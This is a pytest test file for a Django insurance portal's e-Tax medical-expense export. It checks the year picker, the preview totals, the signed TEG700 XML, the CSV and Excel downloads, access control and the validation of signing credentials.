"""MED-6 医療費控除申請用データ: the preview, the signed TEG700 XML, the CSV, the 集計フォーム."""

import csv
import datetime as dt
import io
import re
from urllib.parse import quote
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from django.core.management import CommandError, call_command
from django.db import connection
from django.db.models import Sum
from django.test.utils import CaptureQueriesContext
from django.urls import include, path
from lxml import etree
from signxml import SignatureConfiguration, XMLVerifier
from signxml.exceptions import InvalidSignature

from kosmo import urls as portal_urls
from kosmo.spreadsheets import FORMULA_STARTS
from medical import etax, etax_views
from medical import urls as medical_urls
from medical.models import CareType, Claim, EtaxSigningCredential
from tests import factories

TOKYO = ZoneInfo("Asia/Tokyo")
YEAR = 2025
REAL_TOKYO_NOW = etax.tokyo_now
NS = {
    "k": "http://xml.e-tax.nta.go.jp/XSD/kyotsu",
    "gen": "http://xml.e-tax.nta.go.jp/XSD/general",
    "dsig": "http://www.w3.org/2000/09/xmldsig#",
}
ETAX_ROUTES = [
    path("etax/", etax_views.etax, name="etax"),
    path("etax/<int:year>/xml/", etax_views.etax_xml, name="etax_xml"),
    path("etax/<int:year>/csv/", etax_views.etax_csv, name="etax_csv"),
    path("etax/<int:year>/xlsx/", etax_views.etax_xlsx, name="etax_xlsx"),
]


def _portal_with_etax_routes():
    """The portal's URLs with the e-Tax routes under medical/, until medical/urls.py has them."""
    known = {getattr(pattern, "name", None) for pattern in medical_urls.urlpatterns}
    extra = [route for route in ETAX_ROUTES if route.name not in known]
    others = [p for p in portal_urls.urlpatterns if getattr(p, "namespace", None) != "medical"]
    return [*others, path("medical/", include((medical_urls.urlpatterns + extra, "medical")))]


urlpatterns = _portal_with_etax_routes()
pytestmark = pytest.mark.urls(__name__)

PAGE = "/medical/etax/"
XML = f"/medical/etax/{YEAR}/xml/"
CSV = f"/medical/etax/{YEAR}/csv/"
XLSX = f"/medical/etax/{YEAR}/xlsx/"


@pytest.fixture(autouse=True)
def today_is_the_filing_season(monkeypatch):
    """2026-02-16 in Tokyo: 2025, 2024 and 2023 are on offer."""
    monkeypatch.setattr(etax, "tokyo_now", lambda: dt.datetime(2026, 2, 16, 9, 30, tzinfo=TOKYO))


def _self_signed(key, common_name="コスモ健康保険組合", *, not_before=None, not_after=None):
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = dt.datetime.now(dt.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(not_before or now - dt.timedelta(days=1))
        .not_valid_after(not_after or now + dt.timedelta(days=365))
        .sign(key, hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.PEM).decode()


def _key_pem(key):
    return key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.TraditionalOpenSSL,
        serialization.NoEncryption(),
    ).decode()


@pytest.fixture(scope="session")
def rsa_key():
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


@pytest.fixture(scope="session")
def keys(rsa_key):
    """(private key PEM, certificate PEM) of the union's signing credential."""
    return _key_pem(rsa_key), _self_signed(rsa_key)


@pytest.fixture
def credential(union, keys):
    etax.store_credential(union=union, key_pem=keys[0], cert_pem=keys[1])
    return EtaxSigningCredential.objects.get(union=union)


def _claim(person, month, provider, care_type, paid, *, year=YEAR):
    return factories.ClaimFactory(
        person=person,
        service_month=dt.date(year, month, 1),
        provider_name=provider,
        care_type=care_type,
        patient_paid=paid,
    )


LONG_PROVIDER = "医療法人社団コスモ会　コスモ総合病院附属さくら記念クリニック"


@pytest.fixture
def household_claims(insured, dependent, child, other_household_member, other_union_member):
    """The manual's situation: a household of three with several institutions in 2025, data
    up to October (claims arrive late), and other people's claims that must never show."""
    taro, hanako, ichiro = insured.person, dependent.person, child
    _claim(taro, 1, "コスモ内科クリニック", CareType.OUTPATIENT, 3000)
    _claim(taro, 2, "コスモ内科クリニック", CareType.OUTPATIENT, 2400)
    _claim(taro, 1, "ｺｽﾓ薬局", CareType.PHARMACY, 1200)
    _claim(taro, 2, "ｺｽﾓ薬局", CareType.PHARMACY, 900)
    _claim(taro, 3, LONG_PROVIDER, CareType.INPATIENT, 45000)
    _claim(hanako, 4, "さくら歯科", CareType.DENTAL, 3300)
    _claim(hanako, 5, "さくら歯科", CareType.DENTAL, 2100)
    _claim(hanako, 7, "あおば訪問看護ステーション", CareType.HOME_NURSING, 1500)
    _claim(ichiro, 6, "こども医院", CareType.OUTPATIENT, 500)
    _claim(ichiro, 10, "こども医院", CareType.OUTPATIENT, 0)
    _claim(taro, 12, "コスモ内科クリニック", CareType.OUTPATIENT, 7777, year=2024)
    _claim(other_household_member.person, 8, "よそのクリニック", CareType.OUTPATIENT, 8888)
    _claim(other_union_member.person, 12, "よその組合の病院", CareType.OUTPATIENT, 9999)


# Lines in file order: person (枝番), institution, month.
EXPECTED_LINES = [
    ("山田　太郎", "コスモ内科クリニック", 1, "入院外", 3000),
    ("山田　太郎", "コスモ内科クリニック", 2, "入院外", 2400),
    ("山田　太郎", "コスモ薬局", 1, "調剤", 1200),
    ("山田　太郎", "コスモ薬局", 2, "調剤", 900),
    ("山田　太郎", LONG_PROVIDER, 3, "入院", 45000),
    ("山田　花子", "あおば訪問看護ステーション", 7, "訪問看護", 1500),
    ("山田　花子", "さくら歯科", 4, "歯科", 3300),
    ("山田　花子", "さくら歯科", 5, "歯科", 2100),
    ("山田　一郎", "こども医院", 6, "入院外", 500),
    ("山田　一郎", "こども医院", 10, "入院外", 0),
]
EXPECTED_TOTAL = 59900


def _html(response):
    return response.content.decode()


def _lines(notice):
    return [
        (line.person_name, line.provider_name, line.month.month, line.care_type_label, line.amount)
        for line in notice.lines
    ]


def _verify(xml_bytes, cert_pem):
    return XMLVerifier().verify(
        xml_bytes,
        x509_cert=cert_pem,
        id_attribute="id",
        expect_config=SignatureConfiguration(location="./"),
    )


def _xml_lines(root):
    return [
        (
            detail.findtext("k:WBD00020", namespaces=NS),
            detail.findtext("k:WBD00040", namespaces=NS),
            int(detail.findtext("k:WBD00030/gen:mm", namespaces=NS)),
            int(detail.findtext("k:WBD00050", namespaces=NS)),
        )
        for detail in root.iterfind("k:WBD00000/k:WBD00010", namespaces=NS)
    ]


def _csv_rows(content):
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# --- The year picker ---------------------------------------------------------------------------


def test_year_picker_offers_the_last_three_years(member_client):
    html = _html(member_client.get(PAGE))

    assert '<h1 class="page-title">医療費控除申請用データ</h1>' in html
    assert re.findall(r'<option value="(\d+)"( selected)?>(\d+年)</option>', html) == [
        ("2025", " selected", "2025年"),
        ("2024", "", "2024年"),
        ("2023", "", "2023年"),
    ]
    assert ">表示</button>" in html


def test_offered_years_follow_the_calendar_in_tokyo(monkeypatch):
    monkeypatch.setattr(etax, "tokyo_now", REAL_TOKYO_NOW)
    # 2026-12-31 15:30 UTC is already New Year's Day 2027 in Tokyo.
    monkeypatch.setattr(
        etax.timezone, "now", lambda: dt.datetime(2026, 12, 31, 15, 30, tzinfo=dt.UTC)
    )

    assert etax.offered_years() == [2026, 2025, 2024]
    assert etax.offered_years(dt.date(2026, 12, 31)) == [2025, 2024, 2023]


@pytest.mark.parametrize("year", ["2022", "2026", "1999", "abc"])
def test_year_outside_the_three_is_refused_with_a_message(member_client, household_claims, year):
    html = _html(member_client.get(PAGE, {"year": year}))

    assert "発行対象年は2023年〜2025年の中から選択してください。" in html
    assert 'aria-describedby="id_year_error"' in html
    assert "医療費明細</h2>" not in html


@pytest.mark.parametrize("url", ["/medical/etax/2022/xml/", "/medical/etax/2026/csv/"])
def test_download_of_a_year_outside_the_three_is_not_found(member_client, household_claims, url):
    assert member_client.get(url).status_code == 404


# --- The preview --------------------------------------------------------------------------------


def test_preview_lists_each_person_and_institution_with_totals(
    member_client, household_claims, credential
):
    response = member_client.get(PAGE, {"year": YEAR})
    html = _html(response)
    notice = response.context["notice"]

    assert _lines(notice) == EXPECTED_LINES
    assert [(p.name, p.amount) for p in notice.persons] == [
        ("山田　太郎", 52500),
        ("山田　花子", 6900),
        ("山田　一郎", 500),
    ]
    assert [(g.name, g.amount) for g in notice.persons[0].providers] == [
        ("コスモ内科クリニック", 5400),
        ("コスモ薬局", 2100),
        (LONG_PROVIDER, 45000),
    ]
    assert notice.total == EXPECTED_TOTAL
    assert "2025年分の医療費明細</h2>" in html
    assert "次の10件の明細が含まれます。" in html
    assert "療養を受けた者：山田　太郎" in html
    assert "コスモ内科クリニック 小計" in html and "¥5,400" in html
    assert "山田　太郎 計" in html and "¥52,500" in html
    assert '<td class="num">¥59,900</td>' in html
    assert "CSV・集計フォームでは「コスモ総合病院附属さくら記念クリニック」" in html
    for label in ["XMLデータダウンロード", "CSVデータをダウンロードする"]:
        assert label in html
    assert f'href="{XML}"' in html and f'href="{CSV}"' in html and f'href="{XLSX}"' in html


def test_preview_states_the_months_covered_and_those_without_data_yet(
    member_client, household_claims
):
    html = _html(member_client.get(PAGE, {"year": YEAR}))

    # Our union's newest claims are for October 2025 (another union's December does not count).
    assert "対象期間：2025年1月〜2025年10月診療分" in html
    assert "2025年11月・12月診療分の医療費は、まだ反映されていません。" in html
    assert "医療費のデータは、診療月のおおむね2〜3か月後に反映されます。" in html


def test_year_without_claims_shows_an_empty_state_and_no_downloads(member_client, household_claims):
    html = _html(member_client.get(PAGE, {"year": 2023}))

    assert "2023年分の医療費明細はありません。" in html
    assert "2023年分の医療費は、まだ反映されていません。" in html
    assert "XMLデータダウンロード" not in html
    assert member_client.get("/medical/etax/2023/xml/").status_code == 404


def test_totals_equal_the_sum_of_patient_paid_in_every_file(
    member_client, insured, household_claims, credential
):
    paid = (
        Claim.objects.visible_to(insured)
        .filter(service_month__year=YEAR)
        .aggregate(total=Sum("patient_paid"))["total"]
    )
    root = etree.fromstring(member_client.get(XML).content)
    csv_rows = _csv_rows(member_client.get(CSV).content)[1:]
    sheet = openpyxl.load_workbook(io.BytesIO(member_client.get(XLSX).content))[
        "医療費集計フォーム"
    ]

    assert paid == EXPECTED_TOTAL
    assert etax.build_notice(insured, year=YEAR).total == paid
    assert sum(amount for *_, amount in _xml_lines(root)) == paid
    assert sum(int(row[6]) for row in csv_rows) == paid
    assert sum(sheet.cell(row, 8).value for row in range(9, 19)) == paid


def test_preview_costs_the_same_number_of_queries_whatever_the_data_size(
    member_client, insured, household_claims
):
    def count():
        with CaptureQueriesContext(connection) as queries:
            member_client.get(PAGE, {"year": YEAR})
        return len(queries)

    count()  # the session's first request does its own bookkeeping
    before = count()
    for month in range(1, 13):
        _claim(insured.person, month, "追加クリニック", CareType.OUTPATIENT, 100)

    assert count() == before


# --- The signed TEG700 XML ---------------------------------------------------------------------


def test_xml_is_valid_against_our_schema_and_its_signature_verifies(
    member_client, household_claims, credential, keys
):
    response = member_client.get(XML)
    content = response.content
    root = etree.fromstring(content)

    assert content.startswith(b'<?xml version="1.0" encoding="UTF-8"?>')
    etax.teg700_schema().assertValid(root)
    result = _verify(content, keys[1])
    assert etree.QName(result.signed_xml).localname == "TEG700"
    assert root.tag == "{http://xml.e-tax.nta.go.jp/XSD/kyotsu}TEG700"
    assert root.nsmap[None] == NS["k"] and root.nsmap["gen"] == NS["gen"]
    assert re.fullmatch(r"TEG700\d{17}", root.get("id"))
    assert (root.get("VR"), root.get("page"), root.get("sakuseiNM"), root.get("softNM")) == (
        "1.0",
        "1",
        "コスモ健康保険組合",
        "KOSMO Web",
    )
    assert root.get("sakuseiDay") == dt.datetime.now(TOKYO).date().isoformat()
    assert root.get("id")[6:14] == root.get("sakuseiDay").replace("-", "")
    assert _xml_lines(root) == [(n, p, m, a) for n, p, m, _care, a in EXPECTED_LINES]


def test_signature_is_enveloped_as_in_the_nta_sample(member_client, household_claims, credential):
    root = etree.fromstring(member_client.get(XML).content)
    signature = root[-1]

    assert signature.tag == "{http://www.w3.org/2000/09/xmldsig#}Signature"
    assert signature.prefix == "dsig"
    assert signature.get("Id")
    assert signature.find("dsig:SignedInfo/dsig:Reference", NS).get("URI") == "#" + root.get("id")
    algorithms = [el.get("Algorithm") for el in signature.iterfind(".//*[@Algorithm]")]
    assert algorithms == [
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
        "http://www.w3.org/2000/09/xmldsig#enveloped-signature",
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
        "http://www.w3.org/2001/04/xmlenc#sha256",
    ]
    assert signature.findtext("dsig:KeyInfo/dsig:X509Data/dsig:X509Certificate", namespaces=NS)


def test_changing_an_amount_breaks_the_signature(member_client, household_claims, credential, keys):
    root = etree.fromstring(member_client.get(XML).content)
    amount = root.find("k:WBD00000/k:WBD00010/k:WBD00050", NS)
    amount.text = str(int(amount.text) + 1000)
    tampered = etree.tostring(root, xml_declaration=True, encoding="UTF-8")

    etax.teg700_schema().assertValid(root)  # still well-formed and valid, but not ours
    with pytest.raises(InvalidSignature):
        _verify(tampered, keys[1])


def test_signature_does_not_verify_against_another_certificate(
    member_client, household_claims, credential
):
    other_cert = _self_signed(rsa.generate_private_key(public_exponent=65537, key_size=2048))

    with pytest.raises(InvalidSignature):
        _verify(member_client.get(XML).content, other_cert)


def test_xml_header_carries_the_union_the_insured_and_the_period(
    member_client, household_claims, credential, union
):
    root = etree.fromstring(member_client.get(XML).content)

    assert root.findtext("k:WBA00000/k:WBA00010", namespaces=NS) == union.insurer_number
    assert root.findtext("k:WBA00000/k:WBA00020", namespaces=NS) == "コスモ健康保険組合"
    assert root.findtext("k:WBB00000", namespaces=NS) == "山田　太郎"
    period = [
        (el.findtext("gen:yyyy", namespaces=NS), el.findtext("gen:mm", namespaces=NS))
        for el in root.find("k:WBC00000", NS)
    ]
    assert period == [("2025", "1"), ("2025", "10")]


def test_month_is_written_in_western_years_without_zero_padding(
    member_client, household_claims, credential
):
    root = etree.fromstring(member_client.get(XML).content)
    first = root.find("k:WBD00000/k:WBD00010/k:WBD00030", NS)

    assert [(child.prefix, child.text) for child in first] == [("gen", "2025"), ("gen", "1")]
    assert b"<gen:mm>10</gen:mm>" in etree.tostring(root)
    assert b"<gen:mm>01</gen:mm>" not in etree.tostring(root)


def test_half_width_katakana_become_full_width(member_client, insured, credential, keys):
    _claim(insured.person, 1, "ｻﾝﾌﾟﾙ ｸﾘﾆｯｸ･ﾊﾟｰｸ", CareType.OUTPATIENT, 1000)

    content = member_client.get(XML).content
    root = etree.fromstring(content)

    assert root.findtext(".//k:WBD00040", namespaces=NS) == "サンプル クリニック・パーク"
    etax.teg700_schema().assertValid(root)
    _verify(content, keys[1])
    assert _csv_rows(member_client.get(CSV).content)[1][1] == "サンプル　クリニック・パーク"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("ｶﾞｯｺｳ ﾎｹﾝ", "ガッコウ ホケン"),
        ("ﾞｱ", "゛ア"),  # a voiced mark with nothing to join stays a (full-width) mark
        ("𠮷田　花子", "吉田　花子"),
        ("Tōkyō ⼀丁目 №3", "Tokyo 一丁目 No3"),
        ("髙橋﨑①Ⅲ～", "髙橋﨑①Ⅲ～"),  # already allowed: unchanged
        ("ABC\u200b\ufe00クリニック\t 本院", "ABCクリニック 本院"),
        ("ハート♥クリニック😀", "ハート〓クリニック〓"),
    ],
)
def test_text_is_brought_into_the_general_xsd_character_set(value, expected):
    assert etax.xml_text(value) == expected


def test_any_text_that_went_through_xml_text_is_schema_valid(keys):
    sample = "ｶﾞｯｺｳ𠮷Tōkyō⼀№♥😀한\u200b\ufe00\x07ℓ㈱ﾟ｢｣､｡<&>"
    notice = etax.Notice(
        year=YEAR,
        union=factories.UnionFactory.build(name=sample, insurer_number="06130000"),
        insured_name=etax.xml_text(sample),
        lines=[
            etax.NoticeLine(
                person_name=etax.xml_text(sample),
                month=dt.date(YEAR, 1, 1),
                provider_name=etax.xml_text(sample),
                care_type=CareType.OUTPATIENT,
                amount=1,
            )
        ],
        period=None,
        pending_months=[],
    )
    unsaved = EtaxSigningCredential(private_key_pem=keys[0], certificate_pem=keys[1])

    content = etax.notice_xml(notice, credential=unsaved)  # validates before it returns

    etax.teg700_schema().assertValid(etree.fromstring(content))
    _verify(content, keys[1])


def test_union_without_a_key_refuses_the_xml_but_csv_and_xlsx_work(member_client, household_claims):
    message = (
        "ご加入の健康保険組合の電子署名が設定されていないため、XMLデータはダウンロードできません。"
        "CSVデータまたは医療費集計フォーム(Excel)をご利用ください。"
    )
    page = _html(member_client.get(PAGE, {"year": YEAR}))
    response = member_client.get(XML)

    assert message in page and f'href="{XML}"' not in page
    assert response.status_code == 503
    assert "Content-Disposition" not in response
    assert message in _html(response)
    assert member_client.get(CSV).status_code == 200
    assert member_client.get(XLSX).status_code == 200


@pytest.mark.parametrize(
    ("url", "filename", "fallback", "content_type"),
    [
        (XML, "医療費通知データ_2025年.xml", "iryouhi_2025.xml", "application/xml"),
        (CSV, "医療費通知データ_2025年.csv", "iryouhi_2025.csv", "text/csv; charset=utf-8"),
        (
            XLSX,
            "医療費集計フォーム_2025年.xlsx",
            "iryouhi_2025.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
    ],
)
def test_downloads_are_attachments_named_in_japanese_that_are_never_stored(
    member_client, household_claims, credential, url, filename, fallback, content_type
):
    response = member_client.get(url)

    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f"attachment; filename=\"{fallback}\"; filename*=utf-8''{quote(filename)}"
    )
    assert response["Cache-Control"] == "no-store, private"
    assert response["Content-Type"] == content_type


# --- CSV and the 集計フォーム --------------------------------------------------------------------


FORM_CATEGORY_COLUMN = {"入院": 2, "入院外": 2, "歯科": 2, "訪問看護": 2, "調剤": 3}


def _form_row(name, provider, month, care_type, amount):
    """A CSV row as the documented rules make it (only the long name is shortened here)."""
    row = [name, provider, "", "", "", "", str(amount), "", f"2025/{month:02d}"]
    if provider == LONG_PROVIDER:
        row[1] = "コスモ総合病院附属さくら記念クリニック"
    row[FORM_CATEGORY_COLUMN[care_type]] = "該当する"
    return row


def test_csv_round_trips_to_the_same_rows_and_total(member_client, household_claims):
    rows = _csv_rows(member_client.get(CSV).content)

    assert rows[0] == [
        "医療を受けた人",
        "病院・薬局などの名称",
        "診療・治療",
        "医薬品購入",
        "介護保険サービス",
        "その他の医療費",
        "支払った医療費の金額",
        "左のうち、補填される金額",
        "支払年月日",
    ]
    assert rows[1:4] == [
        ["山田　太郎", "コスモ内科クリニック", "該当する", "", "", "", "3000", "", "2025/01"],
        ["山田　太郎", "コスモ内科クリニック", "該当する", "", "", "", "2400", "", "2025/02"],
        ["山田　太郎", "コスモ薬局", "", "該当する", "", "", "1200", "", "2025/01"],
    ]
    assert rows[5] == [
        "山田　太郎",
        "コスモ総合病院附属さくら記念クリニック",
        "該当する",
        "",
        "",
        "",
        "45000",
        "",
        "2025/03",
    ]
    assert rows[1:] == [_form_row(*line) for line in EXPECTED_LINES]
    assert sum(int(row[6]) for row in rows[1:]) == EXPECTED_TOTAL


def test_csv_and_form_keep_the_form_limits_of_ten_and_twenty_characters(member_client, insured):
    person = insured.person
    person.family_name, person.given_name = "長谷川原", "左衛門三郎太"
    person.save()
    _claim(person, 1, "ＡＢＣ Medical Clinic 新宿西口駅前院 分院", CareType.OUTPATIENT, 800)

    [_header, row] = _csv_rows(member_client.get(CSV).content)
    sheet = openpyxl.load_workbook(io.BytesIO(member_client.get(XLSX).content))[
        "医療費集計フォーム"
    ]

    assert row[0] == "長谷川原左衛門三郎太"  # 11 with the space → without it, 10
    # Full width; too long → without spaces; still too long → the first 20.
    assert row[1] == "ＡＢＣＭｅｄｉｃａｌＣｌｉｎｉｃ新宿西口"
    assert (sheet["B9"].value, sheet["C9"].value) == (row[0], row[1])


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("コスモ内科クリニック", "コスモ内科クリニック"),
        (LONG_PROVIDER, "コスモ総合病院附属さくら記念クリニック"),
        (
            "医療法人社団コスモ会コスモ総合病院附属さくら記念クリニック",
            "コスモ会コスモ総合病院附属さくら記念クリ",
        ),
        ("国立研究開発法人　国立国際医療研究センター病院", "国立国際医療研究センター病院"),
        (
            "独立行政法人地域医療機能推進機構　東京新宿メディカルセンター",
            "東京新宿メディカルセンター",
        ),
        (
            "さくら　こども　クリニック　附属　第二診療所の分院",
            "さくらこどもクリニック附属第二診療所の分院"[:20],
        ),
    ],
)
def test_institution_names_are_shortened_by_the_documented_rule(name, expected):
    assert etax.form_provider_name(name) == expected


def test_xlsx_is_the_nta_form_filled_in_from_row_nine(member_client, household_claims):
    workbook = openpyxl.load_workbook(io.BytesIO(member_client.get(XLSX).content))
    sheet = workbook["医療費集計フォーム"]
    rows = [
        [sheet.cell(row, column).value for column in range(2, 11)]
        for row in range(9, 9 + len(EXPECTED_LINES))
    ]

    assert workbook.sheetnames == ["この明細書について", "医療費集計フォーム", "ご利用に当たって"]
    assert sheet["A1"].value == "医療費集計フォーム  Ver.3.1"
    assert [sheet.cell(6, c).value for c in (1, 2, 3, 4, 8, 9, 10)] == [
        "No",
        "医療を受けた人",
        "病院・薬局などの名称",
        "医療費の区分\u3000※複数選択可",
        "支払った医療費の金額",
        "左のうち、補填される金額",
        "支払年月日",
    ]
    assert [sheet.cell(7, c).value for c in range(4, 8)] == list(etax.FORM_CATEGORIES)
    assert sheet["A9"].value == "=ROW()-8"
    assert rows[0] == [
        "山田　太郎",
        "コスモ内科クリニック",
        "該当する",
        None,
        None,
        None,
        3000,
        None,
        "2025/01",
    ]
    assert rows[2][:4] == ["山田　太郎", "コスモ薬局", None, "該当する"]
    assert rows[5][:3] == ["山田　花子", "あおば訪問看護ステーション", "該当する"]
    assert [row[6] for row in rows] == [amount for *_, amount in EXPECTED_LINES]
    assert sheet.cell(9 + len(EXPECTED_LINES), 2).value is None
    assert sheet.protection.sheet and workbook.security.lockStructure
    assert len(sheet.data_validations.dataValidation) == 4
    assert sheet.freeze_panes == "B9"
    assert sheet["C3"].value == '=IF(0=SUM(H9:H1003),"",SUM(H9:H1003))'


NTA_REMARK = "医療費通知（「医療費のお知らせ」など）を利用する場合にはご利用いただけません。"


def test_xlsx_opens_on_our_explanation_before_the_nta_sheets(member_client, household_claims):
    workbook = openpyxl.load_workbook(io.BytesIO(member_client.get(XLSX).content))
    about = workbook.worksheets[0]
    lines = [row[0] for row in about.iter_rows(min_col=2, max_col=2, values_only=True)]
    text = "\n".join(line or "" for line in lines)

    assert about.title == "この明細書について" and workbook.active.title == "この明細書について"
    assert lines[0] == "この明細書について"
    assert "コスモ健康保険組合の医療費通知の記録" in text and "2025年診療分の医療費です。" in text
    assert "領収書から作成したものではありません。" in text
    assert "・対象期間：2025年1月〜2025年10月診療分" in text
    assert "・2025年11月〜12月診療分の医療費は、まだ反映されていません。" in text
    assert "「支払った医療費の金額」は、健康保険組合の記録にある自己負担額です。" in text
    assert "「左のうち、補填される金額」は空欄です。" in text
    assert "「医療費集計フォームを利用する」を選び、このファイルを読み込みます。" in text
    # The NTA's remark is explained, not removed: its sheet stays as the NTA wrote it.
    assert (
        "「医療費通知（「医療費のお知らせ」など）を利用する場合にはご利用いただけません。」" in text
    )
    assert "領収書は、確定申告期限等から5年間保管してください" in text
    nta = workbook["ご利用に当たって"]
    assert (
        "医療費通知（「医療費のお知らせ」など）を利用する場合にはご利用いただけません。"
        in nta["B8"].value
    )
    assert about.protection.sheet and "&amp;" not in text


def test_more_than_995_lines_are_split_into_several_forms_and_the_page_says_so(
    member_client, insured
):
    Claim.objects.bulk_create(
        Claim(
            household=insured.person.household,
            person=insured.person,
            service_month=dt.date(YEAR, 1 + n % 12, 1),
            provider_name=f"クリニック{n:04d}",
            care_type=CareType.OUTPATIENT,
            total_cost=10,
            insurer_paid=7,
            patient_paid=3,
        )
        for n in range(996)
    )

    html = _html(member_client.get(PAGE, {"year": YEAR}))
    first = openpyxl.load_workbook(io.BytesIO(member_client.get(XLSX).content))
    second_response = member_client.get(XLSX, {"part": 2})
    second = openpyxl.load_workbook(io.BytesIO(second_response.content))

    assert "1ファイル995件までのため、2つのファイルに分けています。" in html
    assert f'href="{XLSX}?part=2"' in html
    assert first["医療費集計フォーム"]["B1003"].value == "山田　太郎"
    assert second_response["Content-Disposition"] == (
        'attachment; filename="iryouhi_2025_2.xlsx"; '
        f"filename*=utf-8''{quote('医療費集計フォーム_2025年_2.xlsx')}"
    )
    assert second["医療費集計フォーム"]["C9"].value == "クリニック０９９５"
    assert second["医療費集計フォーム"]["B10"].value is None
    assert member_client.get(XLSX, {"part": 3}).status_code == 404
    assert len(_csv_rows(member_client.get(CSV).content)) == 997


# --- Who sees what ------------------------------------------------------------------------------


def test_dependent_sees_and_downloads_only_her_own_claims(
    client, dependent, household_claims, credential, keys
):
    client.force_login(dependent)

    notice = client.get(PAGE, {"year": YEAR}).context["notice"]
    content = client.get(XML).content
    root = etree.fromstring(content)
    csv_rows = _csv_rows(client.get(CSV).content)[1:]

    assert [p.name for p in notice.persons] == ["山田　花子"]
    assert notice.total == 6900
    assert {name for name, *_ in _xml_lines(root)} == {"山田　花子"}
    assert root.findtext("k:WBB00000", namespaces=NS) == "山田　太郎"  # 被保険者等の氏名
    assert {row[0] for row in csv_rows} == {"山田　花子"}
    _verify(content, keys[1])


def test_another_households_member_gets_nothing_of_ours(
    client, other_household_member, household_claims, credential
):
    client.force_login(other_household_member)

    html = _html(client.get(PAGE, {"year": YEAR}))
    notice = client.get(PAGE, {"year": YEAR}).context["notice"]
    root = etree.fromstring(client.get(XML).content)

    assert [p.name for p in notice.persons] == ["佐藤　健"]
    assert "山田" not in html
    assert _xml_lines(root) == [("佐藤　健", "よそのクリニック", 8, 8888)]
    assert "山田".encode() not in client.get(CSV).content


def test_another_unions_member_is_refused(client, other_union_member, household_claims):
    for url in [f"{PAGE}?year={YEAR}", XML, CSV, XLSX]:
        client.force_login(other_union_member)  # each refusal also signs the account out
        response = client.get(url)
        assert response.status_code == 403
        assert "山田" not in _html(response)


def test_visitors_are_sent_to_login(client, union):
    for url in [PAGE, XML, CSV, XLSX]:
        response = client.get(url)
        assert response.status_code == 302
        assert response.url.startswith("/accounts/login/")


def test_union_without_the_etax_service_shows_feature_unavailable(
    member_client, union, household_claims
):
    union.set_enabled_features(union.enabled_feature_keys - {"etax"})
    union.save()

    for url in [PAGE, XML, CSV, XLSX]:
        response = member_client.get(url)
        assert response.status_code == 404
        assert "この機能はご利用いただけません" in _html(response)


# --- Signing credentials ------------------------------------------------------------------------


def _write(tmp_path, name, text):
    target = tmp_path / name
    target.write_text(text)
    return str(target)


def test_set_etax_credential_stores_a_matching_key_and_certificate(union, keys, tmp_path):
    out = io.StringIO()
    call_command(
        "set_etax_credential",
        union=union.slug,
        key=_write(tmp_path, "key.pem", keys[0]),
        cert=_write(tmp_path, "cert.pem", keys[1]),
        stdout=out,
    )

    stored = EtaxSigningCredential.objects.get(union=union)
    assert "コスモ健康保険組合 の e-Tax 署名鍵を登録しました。" in out.getvalue()
    assert "鍵: RSA 2048 ビット" in out.getvalue()
    assert stored.private_key_pem.startswith("-----BEGIN PRIVATE KEY-----")
    assert stored.certificate_pem == keys[1]


def test_set_etax_credential_dry_run_changes_nothing(union, keys, tmp_path):
    out = io.StringIO()
    call_command(
        "set_etax_credential",
        union=union.slug,
        key=_write(tmp_path, "key.pem", keys[0]),
        cert=_write(tmp_path, "cert.pem", keys[1]),
        dry_run=True,
        stdout=out,
    )

    assert "登録します（--dry-run のため変更しません）" in out.getvalue()
    assert not EtaxSigningCredential.objects.filter(union=union).exists()


def test_set_etax_credential_refuses_a_certificate_of_another_key(union, keys, tmp_path):
    other = _self_signed(rsa.generate_private_key(public_exponent=65537, key_size=2048))

    with pytest.raises(CommandError, match="^証明書が秘密鍵と対になっていません。$"):
        call_command(
            "set_etax_credential",
            union=union.slug,
            key=_write(tmp_path, "key.pem", keys[0]),
            cert=_write(tmp_path, "cert.pem", other),
        )
    assert not EtaxSigningCredential.objects.exists()


def test_set_etax_credential_refuses_an_expired_certificate(union, rsa_key, keys, tmp_path):
    expired = _self_signed(
        rsa_key,
        not_before=dt.datetime(2020, 1, 1, tzinfo=dt.UTC),
        not_after=dt.datetime(2021, 1, 1, tzinfo=dt.UTC),
    )

    with pytest.raises(CommandError, match=r"^証明書の有効期限が切れています（2021-01-01まで）。$"):
        call_command(
            "set_etax_credential",
            union=union.slug,
            key=_write(tmp_path, "key.pem", keys[0]),
            cert=_write(tmp_path, "cert.pem", expired),
        )


def test_set_etax_credential_refuses_a_protected_or_short_key(union, keys, tmp_path):
    protected = _write(
        tmp_path,
        "protected.pem",
        rsa.generate_private_key(public_exponent=65537, key_size=2048)
        .private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.BestAvailableEncryption(b"secret"),
        )
        .decode(),
    )
    short_key = rsa.generate_private_key(public_exponent=65537, key_size=1024)

    with pytest.raises(CommandError, match="^秘密鍵がパスワードで保護されています。"):
        call_command(
            "set_etax_credential",
            union=union.slug,
            key=protected,
            cert=_write(tmp_path, "c.pem", keys[1]),
        )
    with pytest.raises(CommandError, match="^RSA 鍵は 2048 ビット以上にしてください。$"):
        call_command(
            "set_etax_credential",
            union=union.slug,
            key=_write(tmp_path, "short.pem", _key_pem(short_key)),
            cert=_write(tmp_path, "short-cert.pem", _self_signed(short_key)),
        )


def test_demo_credential_is_created_once_and_signs_verifiable_xml(
    member_client, union, household_claims
):
    created = etax.ensure_demo_credential(union)

